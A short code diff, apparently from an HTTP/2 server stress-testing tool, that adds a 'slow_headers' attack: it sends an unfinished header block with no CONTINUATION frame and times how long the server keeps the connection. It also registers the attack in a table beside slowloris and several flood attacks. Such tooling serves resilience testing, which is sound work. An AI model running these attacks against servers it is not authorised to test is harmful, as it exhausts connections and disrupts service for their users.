@@ -321,6 +321,17 @@ def slowloris(conn, args, http1=False):
     return {"bytes_sent": i, "closed_after_s": round(time.monotonic() - started, 3)}
 
 
+def slow_headers(conn, args):
+    """After a complete handshake, starts a request's header block (HEADERS without
+    END_HEADERS) and never sends the CONTINUATION that would end it; measures how long the
+    server keeps the connection."""
+    started = time.monotonic()
+    block = conn.request_headers(1)
+    conn.send([HeadersFrame(1, block[: len(block) // 2])])  # no END_HEADERS flag
+    conn.finish(args.seconds)
+    return {"closed_after_s": round(time.monotonic() - started, 3)}
+
+
 def silent(conn, args):
     """Connects and sends nothing (not even a TLS ClientHello); measures how long the
     server keeps the connection."""
@@ -358,6 +369,7 @@ ATTACKS = {
     "empty_data_flood": empty_data_flood,
     "window_update_flood": window_update_flood,
     "max_streams": max_streams,
+    "slow_headers": slow_headers,
 }
 
 
